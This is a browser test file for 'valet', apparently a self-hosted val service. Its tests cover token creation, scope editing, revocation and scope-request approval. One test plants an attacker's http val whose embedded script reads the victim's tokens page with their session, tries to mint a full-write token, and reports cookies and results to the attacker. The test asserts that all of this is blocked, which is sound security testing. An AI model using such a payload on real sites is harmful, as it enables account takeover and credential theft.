// Browser tests of valet's pages: a real `valet serve`, Debian's chromium
// driven by playwright-core, screenshots saved under tests/artifacts/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import net from "node:net";
import { chromium } from "playwright-core";

const root = resolve(import.meta.dirname, "../..");
const valet = process.env.VALET_BIN ?? join(root, "target/debug/valet");
const artifacts = join(root, "tests/artifacts");
const data = mkdtempSync(join(tmpdir(), "valet-pages-"));
const password = "correct horse battery";
let server, browser, base, valsBase, page, valId, runner, mallory;
// What the pages' CSP blocked, and the confirmations shown: the pages'
// script is served by valet and must run under its strict CSP.
const blocked = [];
const dialogs = [];

function cli(args, input) {
  const r = spawnSync(valet, ["--data-dir", data, ...args], { input, encoding: "utf8" });
  assert.equal(r.status, 0, `valet ${args.join(" ")}: ${r.stderr}`);
  return r.stdout.trim();
}

async function freePort() {
  return await new Promise((ok) => {
    const s = net.createServer().listen(0, "127.0.0.1", () => {
      const { port } = s.address();
      s.close(() => ok(port));
    });
  });
}

async function shot(name) {
  mkdirSync(artifacts, { recursive: true });
  await page.screenshot({ path: join(artifacts, `${name}.png`), fullPage: true });
}

const api = (token, path, init = {}) =>
  fetch(base + path, { ...init, headers: { Authorization: `Bearer ${token}`, ...(init.headers ?? {}) } });

before(async () => {
  cli(["user", "create", "ada", "--email", "ada@example.com", "--password-stdin"], password + "\n");
  const code = `import { blob } from "https://esm.town/v/std/blob";
export default async function () {
  await blob.set("greeting", "hello from a val");
  console.log("stored the greeting");
}
`;
  const file = join(data, "needs-write.ts");
  writeFileSync(file, code);
  valId = cli(["val", "create", "--user", "ada", "--name", "needs-write", "--file", file, "--scopes", "blob:read"]);
  runner = cli(["token", "create", "--user", "ada", "--name", "runner", "--scopes", "val:read val:write"]);
  const port = await freePort();
  const valsPort = await freePort();
  base = `http://127.0.0.1:${port}`;
  valsBase = `http://127.0.0.1:${valsPort}`;
  // An attacker's http val: its page tries to read the visitor's tokens
  // page and mint a token with the visitor's session, and records what it
  // saw of valet's cookie.
  cli(["user", "create", "mallory", "--email", "mallory@example.com"]);
  const evil = `import { blob } from "https://esm.town/v/std/blob";
export default async (req) => {
  const url = new URL(req.url);
  if (req.method === "POST" && url.pathname === "/report") {
    await blob.set("report", await req.text());
    return new Response("ok");
  }
  await blob.set("cookie", req.headers.get("cookie") ?? "none");
  return new Response(\`<!doctype html><title>evil</title><script>
(async () => {
  const steal = async () => {
    try {
      const page = await fetch("${base}/settings/tokens", { credentials: "include" });
      const html = await page.text();
      return "READ " + html.length;
    } catch (e) { return "blocked read: " + e; }
  };
  const mint = async () => {
    try {
      const r = await fetch("${base}/settings/tokens", { method: "POST", credentials: "include",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: "name=stolen&expires=never&scope_val=write&scope_user=write&scope_blob=write&scope_sqlite=write&scope_email=write" });
      return "POSTED " + r.status;
    } catch (e) { return "blocked post: " + e; }
  };
  const report = (await steal()) + " | " + (await mint()) + " | " + document.cookie;
  await fetch(location.origin + "/mallory/evil/report", { method: "POST", body: report });
  document.title = "done";
})();
</script>\`, { headers: { "content-type": "text/html" } });
};
`;
  const evilFile = join(data, "evil.ts");
  writeFileSync(evilFile, evil);
  cli(["val", "create", "--user", "mallory", "--name", "evil", "--file", evilFile, "--type", "http"]);
  mallory = cli(["token", "create", "--user", "mallory", "--name", "reader", "--scopes", "blob:read"]);
  server = spawn(valet, ["--data-dir", data, "serve", "--listen", `127.0.0.1:${port}`,
    "--vals-listen", `127.0.0.1:${valsPort}`], { stdio: "ignore" });
  for (let i = 0; i < 100; i++) {
    try {
      if ((await fetch(base + "/.well-known/jwks.json")).ok) break;
    } catch { /* not yet */ }
    await new Promise((r) => setTimeout(r, 100));
  }
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
      "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
  const context = await browser.newContext({ viewport: { width: 1100, height: 900 } });
  page = await context.newPage();
  page.on("dialog", (dialog) => { dialogs.push(dialog.message()); dialog.accept(); });
  page.on("console", (m) => { if (/Content Security Policy/i.test(m.text())) blocked.push(m.text()); });
});

after(async () => {
  await browser?.close();
  server?.kill();
  rmSync(data, { recursive: true, force: true });
});

test("sign in, make a blob:read token, widen it, revoke it", async () => {
  await page.goto(base + "/settings/tokens");
  assert.match(page.url(), /\/login\?next=\/settings\/tokens$/);
  await shot("01-sign-in");
  await page.getByLabel("Username").fill("ada");
  await page.getByLabel("Password").fill(password);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL(base + "/settings/tokens");

  // Create: only blob:read.
  const create = page.locator('form[action="/settings/tokens"]');
  await create.getByLabel("Name").fill("browser-test");
  await create.getByLabel("Expires").selectOption("never");
  for (const resource of ["val", "user", "blob", "sqlite", "email"]) {
    await create.locator(`input[name="scope_${resource}"][value="${resource === "blob" ? "read" : "none"}"]`).check();
  }
  await create.getByRole("button", { name: "Create token" }).click();
  const token = (await page.locator("#token-value").textContent()).trim();
  assert.match(token, /^vlt_[0-9A-Za-z]{38}$/);
  await page.getByRole("button", { name: "Copy" }).click();
  await shot("02-token-created");

  assert.equal((await api(token, "/v1/blob")).status, 200, "blob:read works");
  const denied = await api(token, "/v1/blob/x", { method: "POST", body: "1" });
  assert.equal(denied.status, 403);
  assert.equal((await denied.json()).error.required, "blob:write");

  // The table shows the token with its scope.
  await page.goto(base + "/settings/tokens");
  const row = page.locator("tr", { hasText: "browser-test" }).first();
  assert.match(await row.textContent(), /blob: read/);
  assert.match(await row.textContent(), /active/);

  // Edit: add blob:write.
  const editor = page.locator("details", { hasText: "browser-test" });
  await editor.locator("summary").click();
  await editor.locator('input[name="scope_blob"][value="write"]').check();
  await shot("03-editing-scopes");
  await editor.getByRole("button", { name: "Save scopes" }).click();
  await page.waitForURL(base + "/settings/tokens");
  assert.equal((await api(token, "/v1/blob/x", { method: "POST", body: "1" })).status, 201, "blob:write now works");

  // Revoke (the confirmation is accepted).
  const again = page.locator("details", { hasText: "browser-test" });
  await again.locator("summary").click();
  await again.getByRole("button", { name: "Revoke" }).click();
  await page.waitForURL(base + "/settings/tokens");
  assert.match(await page.locator("tr", { hasText: "browser-test" }).first().textContent(), /revoked/);
  assert.ok(dialogs.some((m) => m.startsWith("Revoke")), `the confirmation was shown: ${dialogs}`);
  assert.deepEqual(blocked, [], "nothing the pages use is blocked by their CSP");
  await shot("04-token-revoked");
  assert.equal((await api(token, "/v1/blob")).status, 401);
});

test("allow a scope request from the val's page and the next run has it", async () => {
  const first = await (await api(runner, `/v1/vals/${valId}/run`, { method: "POST" })).json();
  assert.equal(first.outcome, "failed", first.logs);
  assert.match(first.logs, /blob:write/);

  await page.goto(base + "/vals/needs-write/settings");
  const request = page.locator("#scope-requests [data-scope='blob:write']");
  assert.match(await request.textContent(), /This val asked for blob:write/);
  await shot("05-scope-request");
  await request.getByRole("button", { name: "Allow" }).click();
  await page.waitForURL(base + "/vals/needs-write/settings");
  assert.equal(await page.locator("#scope-requests").count(), 0, "no pending request left");
  assert.ok(await page.locator('input[name="scope_blob"][value="write"]').isChecked());

  const second = await (await api(runner, `/v1/vals/${valId}/run`, { method: "POST" })).json();
  assert.equal(second.outcome, "succeeded", second.logs);
  await page.reload();
  assert.match(await page.locator("#runs").textContent(), /succeeded/);
  await shot("06-val-settings");
});

test("an http val cannot take over a signed-in visitor's account", async () => {
  // The visitor is signed in (the first test signed ada in).
  await page.goto(base + "/settings/tokens");
  assert.equal(new URL(page.url()).pathname, "/settings/tokens", "signed in");
  const before = await page.locator("tr").count();

  await page.goto(valsBase + "/mallory/evil");
  await page.waitForFunction(() => document.title === "done", null, { timeout: 30000 });
  await shot("07-attacker-val");

  const read = async (key) => {
    const r = await api(mallory, `/v1/blob/${key}`);
    return r.status === 200 ? await r.text() : `missing (${r.status})`;
  };
  const report = await read("report");
  assert.doesNotMatch(report, /READ \d+/, `the val's script read the tokens page: ${report}`);
  assert.match(report, /blocked read/, report);
  assert.doesNotMatch(report, /valet_session/, report);
  const cookie = await read("cookie");
  assert.doesNotMatch(cookie, /valet_session/, `the val saw valet's session cookie: ${cookie}`);

  // No token was made with the visitor's session.
  await page.goto(base + "/settings/tokens");
  assert.equal(await page.locator("tr", { hasText: "stolen" }).count(), 0, "a token was minted");
  assert.equal(await page.locator("tr").count(), before);
  // The pages' origin never serves the val.
  assert.equal((await fetch(base + "/x/mallory/evil")).status, 404);
  assert.equal((await fetch(base + "/mallory/evil")).status, 404);
});
